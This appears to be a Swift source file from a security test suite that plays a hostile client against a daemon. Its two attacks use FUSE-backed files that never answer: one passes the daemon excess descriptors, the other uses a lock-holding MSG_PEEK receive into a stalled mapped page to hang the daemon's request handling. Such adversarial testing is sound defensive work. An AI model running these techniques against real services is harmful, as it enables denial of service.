import CLinux
import Glibc
import NetmapClient
import NetmapCore
import StormAttack

/// Attacks with files of a file system that does not answer (``FuseFile``).
enum HangingFiles {
  /// Makes the daemon close such files.
  static func close(_ path: String) throws {
    try FuseFile.mount(path)
    let files = (0..<4).map { _ in unsafe Glibc.open(path, O_RDWR | O_CLOEXEC) }
    guard files.allSatisfy({ $0 >= 0 }) else { throw AttackError("open: errno \(errno)") }
    let client = try RawClient()
    let plain = try MessageSocket.pair()
    // More descriptors than a request takes.
    try Wire.send(
      .list, on: client.mailbox, files: [plain.1.descriptor, plain.1.descriptor] + files
    ) { $0.put(UInt32(0)) }
    usleep(300_000)
    HostilePeer.say("ready")
    withExtendedLifetime((client, plain)) { HostilePeer.waitForEnd() }
  }

  /// Asks for a module with a request socket on which every receive hangs.
  static func seal(_ path: String, _ vale: String, _ module: String) throws {
    try FuseFile.mount(path)
    let file = unsafe Glibc.open(path, O_RDWR | O_CLOEXEC)
    // The call makes the kernel ask for the file's size.
    var status = stat()
    _ = unsafe fstat(file, &status)
    let page = unsafe mmap(nil, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0)
    guard file >= 0, let page = unsafe page, unsafe page != MAP_FAILED else {
      throw AttackError("mmap: errno \(errno)")
    }
    let request = SwitchRequest.module(vale, .choose(.loaded(path: module)))
    let (mine, theirs) = try MessageSocket.pair()
    guard clinux_pass_credentials(theirs.descriptor) == 0 else { throw AttackError("credentials") }
    try mine.send(Message.bytes(.control) { $0.put(request) })
    let (socket, address) = (theirs.descriptor, UInt(bitPattern: page))
    // This receive holds the lock of the socket's queue while it waits for the page.
    try EngineThread.start("peek") {
      _ = unsafe recv(
        socket, UnsafeMutableRawPointer(bitPattern: address), 4096, CInt(MSG_PEEK))
    }
    usleep(200_000)
    let client = try RawClient()
    let reply = try MessageSocket.pair()
    try Wire.send(.control, on: client.mailbox, files: [reply.1.descriptor, theirs.descriptor]) {
      $0.put(request)
    }
    HostilePeer.say("ready")
    HostilePeer.say(Wire.answer(on: reply.0, within: 40).text)
    withExtendedLifetime((client, mine, theirs)) { HostilePeer.waitForEnd() }
  }
}
